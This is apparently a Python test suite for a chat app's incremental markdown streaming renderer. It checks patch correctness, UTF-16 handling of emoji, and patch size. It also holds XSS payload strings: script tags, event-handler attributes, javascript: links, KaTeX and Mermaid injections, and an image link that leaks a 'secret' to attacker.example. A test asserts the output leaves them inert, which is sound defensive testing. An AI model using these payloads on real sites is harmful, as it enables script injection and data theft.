"""The incremental path: patches rebuild exactly the full render, stay inert, and stay small."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.text import utf16_length, utf16_prefix
from app.ui.markdown import render_markdown
from app.ui.streaming.incremental import IncrementalMarkdown, Patch


def apply(html: str, patch: Patch) -> str:
    """What the browser does with a patch (streaming_markdown.js): JavaScript strings count UTF-16 code units."""
    return utf16_prefix(html, patch.keep) + patch.append


def stable_part(html: str, patch: Patch) -> str:
    return utf16_prefix(html, patch.stable)


def stream(text: str, cuts: list[int]):
    """Feed `text` in pieces ending at `cuts`; yield (text so far, HTML so far, patch) after each piece."""
    markdown, html = IncrementalMarkdown(), ""
    for end in [*sorted(set(cuts)), len(text)]:
        if patch := markdown.update(text[:end]):
            html = apply(html, patch)
            yield text[:end], html, patch
    if patch := markdown.finish(text):
        html = apply(html, patch)
        yield text, html, patch


PIECES = [
    *"ab 1.#*-_`|>[]()!:=~$^{}\\",
    "$$",
    "\\(",
    "\\)",
    "\\[",
    "\\]",
    "\\frac",
    "[x] ",
    "\n",
    "\n\n",
    "```",
    "    ",
    "- ",
    "| a | b |\n|---|---|\n",
    "[r]: https://x.y\n",
]
# Beyond the BMP (two UTF-16 units each), combining marks, ZWJ sequences, flags, variation selectors, and the app's
# own 🖼 on image links: the characters whose length differs between Python and the browser.
UNICODE = [
    "😀",
    "🖼",
    "e\u0301",
    "\u0301",
    "👩\u200d💻",
    "👨\u200d👩\u200d👧",
    "🇫🇷",
    "❤\ufe0f",
    "𝔘",
    "中",
    "\u200d",
    "![i](https://x.y/a.png)",
]
MARKDOWNISH = st.lists(st.sampled_from(PIECES), max_size=60).map("".join)
WITH_UNICODE = st.lists(st.sampled_from(PIECES + UNICODE * 2), max_size=60).map("".join)


@given(text=MARKDOWNISH, cuts=st.lists(st.integers(min_value=0, max_value=200), max_size=25))
@settings(max_examples=300, deadline=None)
def test_patches_rebuild_the_full_render_and_never_touch_what_was_declared_stable(text, cuts):
    cuts = [c for c in cuts if c <= len(text)]
    stable_html = ""
    html = ""
    for _, html, patch in stream(text, cuts):
        if patch.keep:
            assert patch.keep >= utf16_length(stable_html), "a patch rewrote HTML that was declared final"
            assert html.startswith(stable_html)
        stable_html = stable_part(html, patch)
    assert html == render_markdown(text)
    assert stable_html == html, "after the last patch everything is final"


@given(text=MARKDOWNISH, cuts=st.lists(st.integers(min_value=0, max_value=200), max_size=25), data=st.data())
@settings(max_examples=300, deadline=None)
def test_a_tab_that_falls_behind_gets_merged_patches_that_end_in_the_same_html(text, cuts, data):
    """While a tab has not applied its last patch, the next ones wait and are merged into one (StreamingMarkdown)."""
    cuts = [c for c in cuts if c <= len(text)]
    patches = [patch for *_, patch in stream(text, cuts)]
    html, stable_html, waiting = "", "", None
    for patch in patches:
        waiting = patch if waiting is None else waiting.then(patch)
        if data.draw(st.booleans(), label="the tab has applied its last patch"):
            if waiting.keep:
                assert waiting.keep >= utf16_length(stable_html), "a merged patch rewrote HTML that was declared final"
            html = apply(html, waiting)
            stable_html, waiting = stable_part(html, waiting), None
    if waiting is not None:
        html = apply(html, waiting)
    assert html == render_markdown(text)


class MarkupInventory(HTMLParser):
    """The elements and attribute names an HTML text makes, as the browser's parser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: set[str] = set()
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.found.add(tag)
        self.found.update(f"{tag}[{name}]" for name, _ in attrs)


@given(text=WITH_UNICODE, cuts=st.lists(st.integers(min_value=0, max_value=200), max_size=25), data=st.data())
@settings(max_examples=400, deadline=None)
def test_emoji_and_combining_marks_at_every_split_never_shift_a_patch(text, cuts, data):
    """The browser's HTML after each patch (merged or not) is the server's, and makes no element or attribute that
    a full render of the text so far does not have: a cut one unit off would turn text into markup."""
    cuts = [c for c in cuts if c <= len(text)]
    markdown, html, waiting = IncrementalMarkdown(), "", None
    for end in [*sorted(set(cuts)), len(text), None]:
        so_far = text if end is None else text[:end]
        patch = markdown.finish(text) if end is None else markdown.update(so_far)
        if patch is not None:
            waiting = patch if waiting is None else waiting.then(patch)
        if waiting is not None and (end is None or data.draw(st.booleans(), label="the tab applies it now")):
            html, waiting = apply(html, waiting), None
            assert html == markdown.html, "the browser's HTML differs from the server's"
            assert MarkupInventory(html).found <= MarkupInventory(render_markdown(so_far)).found
    assert html == render_markdown(text)


def test_a_reply_full_of_emoji_streamed_token_by_token_equals_its_reload():
    text = (
        "😀 **bold** 🖼\n\n- 👩\u200d💻 one\n- two 🇫🇷\n\n| a 😀 | b |\n|---|---|\n| 𝔘 | e\u0301 |\n\n"
        "# 😀 title\n\n<b>x</b> ![i](https://x.y/a.png) after"
    )
    *_, (_, html, _) = stream(text, list(range(len(text))))

    assert html == render_markdown(text)
    assert "<b>" not in html


def test_while_streaming_the_html_is_the_full_render_of_the_text_so_far():
    text = (
        "# Plan\n\nFirst **bold** words, then a list:\n\n- one\n- two\n\n```python\nfor i in range(3):\n"
        "    print(i)\n```\n\n| col | val |\n|-----|-----|\n| a   | 1   |\n\nDone.\n"
    )
    for so_far, html, _ in stream(text, list(range(0, len(text), 3))):
        assert html == render_markdown(so_far)


def test_an_open_code_fence_and_a_half_written_table_render_while_streaming():
    text = "Look:\n\n```js\nconst a = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    markdown, html, seen = IncrementalMarkdown(), "", {}
    for end in range(1, len(text) + 1):  # one character at a time, as the slowest provider would send it
        if patch := markdown.update(text[:end]):
            html = apply(html, patch)
        seen[text[:end]] = html

    assert seen["Look:\n\n```js\nconst a"].endswith(
        '<pre tabindex="0"><code class="language-js"><span class="kd">const</span>'
        '<span class="w"> </span><span class="nx">a</span>\n</code></pre></div>\n'
    )
    assert "<td>1</td>" in seen["Look:\n\n```js\nconst a = 1;\n```\n\n| a | b |\n|---|---|\n| 1 |"]


HOSTILE = (
    "Hi <script>alert(1)</script> <img src=x onerror=alert(2)>\n\n[a](javascript:alert(3)) "
    "[b][r] <svg onload=alert(4)> <iframe src=https://e.example></iframe>\n\n"
    "![leak](https://attacker.example/x.png?q=secret)\n\n[r]: javascript:alert(5)\n"
)


# Every renderer a reply goes through: math typeset by KaTeX (with what it must refuse), a Mermaid block with
# script in it (drawn by the browser in strict mode), a task list, a table and a fence with a hostile language.
HOSTILE_RENDERERS = (
    "Sum $\\href{javascript:alert(6)}{x} + \\htmlData{onload=alert(7)}{y}$ and\n\n"
    "$$\n\\text{<img src=x onerror=alert(8)>}\n$$\n\n"
    '```mermaid\ngraph TD\n  A["<img src=x onerror=alert(9)>"] --> B\n  click A call alert(10)\n```\n\n'
    "- [x] <script>alert(11)</script>\n\n| <b>a</b> | b |\n|---|---|\n| <svg onload=alert(12)> | 2 |\n\n"
    '```"><script>alert(13)</script>\nx\n```\n'
)


@pytest.mark.parametrize("text", [HOSTILE, HOSTILE_RENDERERS], ids=["markdown", "math, diagrams, tasks, tables"])
def test_hostile_output_stays_inert_at_every_step_of_the_incremental_path(text):
    for _, html, patch in stream(text, list(range(len(text)))):
        for piece in (html, patch.append):
            assert not re.search(r"<\s*(script|img|svg|iframe|style|a\s[^>]*javascript)", piece, re.I)
            assert not re.search(r"<[^>]+\son\w+\s*=", piece)
            assert "javascript:" not in "".join(re.findall(r'href="([^"]*)"', piece))
            for value in re.findall(r'\s[\w:-]+="([^"]*)"', piece):
                assert "url(" not in value and "javascript:" not in value, value


def test_each_update_sends_only_what_changed_not_the_whole_reply():
    paragraphs = [f"Paragraph {i} says something **useful** about item {i}.\n\n" for i in range(500)]
    text = "".join(paragraphs)
    cuts = list(range(0, len(text), 40))
    sizes = [len(patch.append) for _, _, patch in stream(text, cuts)][:-1]

    assert max(sizes) < 200, "no update re-sends finished blocks"
    assert sum(sizes) < 3 * len(render_markdown(text))


def test_finished_blocks_are_not_rendered_again(monkeypatch):
    # The module as this class sees it (NiceGUI's test plugin may have re-imported the package meanwhile).
    module_globals = IncrementalMarkdown.update.__globals__
    rendered = []
    real_render = module_globals["render_tokens"]
    monkeypatch.setitem(module_globals, "render_tokens", lambda t: rendered.append(len(t)) or real_render(t))
    text = "".join(f"Block {i}.\n\n" for i in range(300))
    list(stream(text, list(range(0, len(text), 7))))

    assert max(rendered) <= 6, "only the last block or two are ever re-rendered"


def test_windows_line_endings_split_across_updates_render_as_one_line_break():
    text = "first line\r\nsecond line\r\n\r\nnext paragraph\r\n"
    cuts = [i + 1 for i, ch in enumerate(text) if ch == "\r"]  # every update ends between CR and LF

    *_, (_, html, _) = stream(text, cuts)

    assert html == render_markdown(text) == "<p>first line\nsecond line</p>\n<p>next paragraph</p>\n"


def test_patches_travel_as_template_literals_that_nothing_in_the_html_can_end_or_interpolate():
    from app.ui.streaming.streaming_markdown import template_literal

    assert template_literal('plain <p class="x">') == '`plain <p class="x">`'
    assert template_literal("a`b") == "`a\\`b`"
    assert template_literal("${alert(1)}") == "`\\${alert(1)}`"
    assert template_literal("back\\slash\\`") == "`back\\\\slash\\\\\\``"
